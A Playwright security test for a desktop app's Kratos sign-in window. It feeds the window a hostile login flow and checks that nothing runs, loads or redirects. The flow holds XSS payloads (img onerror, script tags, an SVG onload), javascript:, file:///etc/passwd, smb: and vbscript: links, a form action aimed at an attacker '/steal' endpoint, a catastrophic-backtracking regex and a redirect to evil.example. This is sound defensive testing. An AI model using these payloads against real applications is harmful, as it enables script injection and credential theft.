/**
 * A hostile Kratos sends a sign-in form built to attack the window, and the attacks the window already withstood
 * in unit tests are performed again, in Chromium, through the real preload and the real main side: links
 * with `javascript:`, `file:`, `smb:` and `vbscript:` are inert; remote, `file:` and SVG images are never
 * loaded; `script` nodes are shown as unsupported and never run, `div` nodes as empty places; HTML in labels, messages and texts
 * is shown as text; a catastrophic `pattern` does not hang the page; the submit goes to Kratos's own URL for
 * the flow, never to `ui.action`; and `continue_with.redirect_browser_to` opens nothing.
 */
import { expect, test } from '@playwright/test';
import { sendJson, startRecordingServer } from '../main/kratos/recording-server';
import { appOrigin, openApp } from './harness';
import { expectNoTokenLeakFrom, LeakWatch } from './support/leak-watch';
import { keychainOpener, startMainSide } from './support/main-side';

const token = 'ory_st_HostileFlowHostileFlowHostileFlow1';
const flowId = '0b6c2a8e-6f0e-4c1b-9a51-4d2f3c7e8a90';
const pwned = 'window.__pwned=1';
const evilPattern = '(a+)+$';

const info = (id: number, text: string) => ({ id, text, type: 'info' });
const node = (type: string, group: string, attributes: Record<string, unknown>, label?: string) => ({
  type,
  group,
  attributes: { node_type: type, ...attributes },
  messages: [] as unknown[],
  meta: label === undefined ? {} : { label: info(9_990_000, label) },
});

function hostileFlow(attackerUrl: string) {
  const identifier = node(
    'input',
    'default',
    { name: 'identifier', type: 'text', required: true, pattern: evilPattern },
    `<img src=x onerror="${pwned}">Email`,
  );
  identifier.messages = [info(9_990_001, `<b>bold</b> hint<script>${pwned}</script>`)];
  const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${pwned}"/>`).toString('base64');
  return {
    id: flowId,
    type: 'api',
    state: 'choose_method',
    expires_at: '2099-01-01T00:00:00Z',
    ui: {
      // Kratos's own submit URL is /self-service/login?flow=<id> on the configured server: not this.
      action: `${attackerUrl}/steal`,
      method: 'POST',
      messages: [info(9_990_002, '<i>Welcome</i> <a href="javascript:alert(1)">back</a>')],
      nodes: [
        node('input', 'default', { name: 'csrf_token', type: 'hidden', value: '' }),
        identifier,
        node('input', 'password', { name: 'password', type: 'password', required: true }, 'Password'),
        node('input', 'password', { name: 'method', type: 'submit', value: 'password' }, 'Sign in'),
        node('a', 'default', { id: 'js', href: `javascript:${pwned}`, title: info(1, 'Help') }),
        node('a', 'default', { id: 'file', href: 'file:///etc/passwd', title: info(1, 'Help') }),
        node('a', 'default', { id: 'smb', href: 'smb://attacker/share', title: info(1, 'Help') }),
        node('a', 'default', { id: 'vbs', href: 'vbscript:msgbox(1)', title: info(1, 'Help') }),
        node('img', 'default', { id: 'remote', src: `${attackerUrl}/pixel.png`, width: 1, height: 1 }),
        node('img', 'default', { id: 'local', src: 'file:///usr/share/pixmaps/debian-logo.png' }),
        node('img', 'default', { id: 'svg', src: `data:image/svg+xml;base64,${svg}` }),
        node('script', 'default', {
          id: 'webauthn_script',
          src: `${attackerUrl}/script.js`,
          type: 'text/javascript',
          async: true,
          referrerpolicy: '',
          crossorigin: '',
          integrity: '',
          nonce: '',
        }),
        node('div', 'captcha', {
          id: 'captcha',
          class: 'cf-turnstile',
          data: { sitekey: 'k', callback: pwned, src: `${attackerUrl}/widget.js` },
        }),
        node('text', 'default', { id: 'note', text: info(9_990_003, `<script>${pwned}</script>Read me`) }),
      ],
    },
  };
}

test('a hostile sign-in form: nothing in it runs, loads, opens or redirects, and the submit goes to Kratos only', async ({
  browser,
}) => {
  const attacker = await startRecordingServer((_request, response) => sendJson(response, 200, {}));
  let signedIn = false;
  const session = {
    id: '5f7e3b2a-1c4d-4e8f-9a0b-2c3d4e5f6a7b',
    active: true,
    expires_at: '2099-01-01T00:00:00Z',
    authenticated_at: '2026-01-01T00:00:00Z',
    authenticator_assurance_level: 'aal1',
    identity: {
      id: '7c1d2e3f-4a5b-4c6d-8e9f-0a1b2c3d4e5f',
      schema_id: 'default',
      traits: { email: 'a@b.c' },
    },
  };
  const kratos = await startRecordingServer((request, response) => {
    if (request.url.startsWith('/sessions/whoami')) {
      if (signedIn && request.headers['x-session-token'] === token) sendJson(response, 200, session);
      else sendJson(response, 401, { error: { code: 401, message: 'No valid session' } });
    } else if (request.method === 'GET' && request.url.startsWith('/self-service/login/api')) {
      sendJson(response, 200, hostileFlow(attacker.url));
    } else if (request.method === 'POST' && request.url === `/self-service/login?flow=${flowId}`) {
      signedIn = true;
      sendJson(response, 200, {
        session_token: token,
        session,
        continue_with: [{ action: 'redirect_browser_to', redirect_browser_to: 'https://evil.example/' }],
      });
    } else {
      sendJson(response, 404, { error: { code: 404, message: 'Not Found' } });
    }
  });
  const main = await startMainSide({ kratosUrl: kratos.url, openKeychain: keychainOpener('memory') });
  const app = await openApp(browser, { handle: main.handle });
  const requests: string[] = [];
  app.context.on('request', (request) => requests.push(request.url()));
  const watch = new LeakWatch();
  watch.addToken(token);
  try {
    main.attach(app);
    const { page } = app;
    const form = page.getByTestId('flow/login');
    await expect(form).toBeVisible();

    // HTML from the server is text: the characters are on screen, no element was made from them.
    await expect(form.getByText(`<img src=x onerror="${pwned}">Email`)).toBeVisible();
    await expect(form.getByText(`<b>bold</b> hint<script>${pwned}</script>`)).toBeVisible();
    await expect(form.getByText('<i>Welcome</i> <a href="javascript:alert(1)">back</a>')).toBeVisible();
    await expect(form.getByTestId('field/note/text')).toHaveText(`<script>${pwned}</script>Read me`);
    expect(await form.locator('b, i, script, iframe, object, embed, svg').count()).toBe(0);

    // Links of those schemes are a sentence, not a link; clicking them asks main for nothing.
    for (const [id, href] of [
      ['js', `javascript:${pwned}`],
      ['file', 'file:///etc/passwd'],
      ['smb', 'smb://attacker/share'],
      ['vbs', 'vbscript:msgbox(1)'],
    ]) {
      const shown = form.getByTestId(`field/${id}/a`);
      await expect(shown).toHaveText(`Link not opened: only http and https links are allowed. (${href})`);
      await shown.click();
    }
    expect(await page.locator('a[href]').count()).toBe(0);

    // Images: only raster data: URIs are drawn; these three are a sentence each.
    for (const id of ['remote', 'local', 'svg']) {
      await expect(form.getByTestId(`field/${id}/img`)).toHaveText(/^Image not shown:/);
    }
    expect(await page.locator('img').count()).toBe(0);

    // A script node is said to be unsupported, never run; a div is an empty place (with, for a captcha, why
    // it stays empty) that takes neither the server's class nor its data attributes.
    await expect(form.getByTestId('field/webauthn_script/unsupported')).toHaveText(
      'Unsupported: This part of the form needs a script from the server. The desktop app never runs server scripts.',
    );
    const captcha = form.getByTestId('field/captcha/div');
    await expect(captcha).toHaveText(
      'This part of the form (for example a captcha) only works in a web browser.',
    );
    await expect(captcha).toHaveAttribute('class', 'division');
    expect(await page.locator('.cf-turnstile, [data-sitekey], [data-callback]').count()).toBe(0);

    // A pattern that backtracks catastrophically on this value: the check answers, the page goes on.
    const identifier = form.getByTestId('field/identifier');
    await identifier.fill(`${'a'.repeat(48)}!`);
    await form.getByTestId('field/password').fill('correct-Horse-battery-9');
    await form.getByTestId('field/method/password').click();
    expect(
      await identifier.evaluate(
        (input) => (input as unknown as HTMLInputElementLike).validity.patternMismatch,
      ),
    ).toBe(true);
    await expect(identifier).toBeFocused();
    expect(kratos.requests.filter((request) => request.method === 'POST')).toEqual([]);

    // A valid value: sent to Kratos's own submit URL for the flow, never to ui.action.
    await identifier.fill('aaaa');
    await form.getByTestId('field/method/password').click();
    await expect(page.getByTestId('nav/session')).toBeVisible();
    expect(
      kratos.requests.filter((request) => request.method === 'POST').map((request) => request.url),
    ).toEqual([`/self-service/login?flow=${flowId}`]);

    // Nothing ran, nothing was fetched but the app's own files, nothing opened, nowhere navigated.
    expect(await page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(attacker.requests).toEqual([]);
    expect(requests.filter((url) => !url.startsWith(`${appOrigin}/`))).toEqual([]);
    expect(app.invocations.filter(({ channel }) => channel === 'kratos:openExternal')).toEqual([]);
    expect(main.opened).toEqual([]);
    expect(page.url()).toBe(`${appOrigin}/index.html`);

    await expectNoTokenLeakFrom(watch, app, main);
  } finally {
    await app.close();
    await main.stop();
    await kratos.close();
    await attacker.close();
  }
});

/** The part of HTMLInputElement read here (test/ is type-checked without the DOM library). */
interface HTMLInputElementLike {
  validity: { patternMismatch: boolean };
}
